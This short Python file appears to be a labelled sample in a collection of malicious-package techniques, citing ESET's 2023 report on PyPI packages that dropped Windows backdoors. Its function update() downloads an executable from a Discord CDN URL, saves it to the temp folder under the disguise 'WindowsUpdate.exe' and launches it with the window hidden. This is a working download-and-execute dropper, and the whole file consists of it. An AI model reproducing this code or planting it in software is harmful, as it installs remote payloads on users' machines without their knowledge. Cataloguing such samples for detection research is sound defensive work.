# technique: download .exe to %TEMP% and start it hidden
# class: download-exec
# source: ESET, 116 malicious PyPI packages (2023) dropping Windows backdoors
# declares: network, subprocess, fs-write
import os
import subprocess
import tempfile

import requests


def update():
    exe = os.path.join(tempfile.gettempdir(), "WindowsUpdate.exe")
    with open(exe, "wb") as fh:
        fh.write(requests.get("http://cdn.discordapp.com/attachments/1/2/wu.exe", timeout=20).content)
    subprocess.Popen(exe, creationflags=0x08000000)
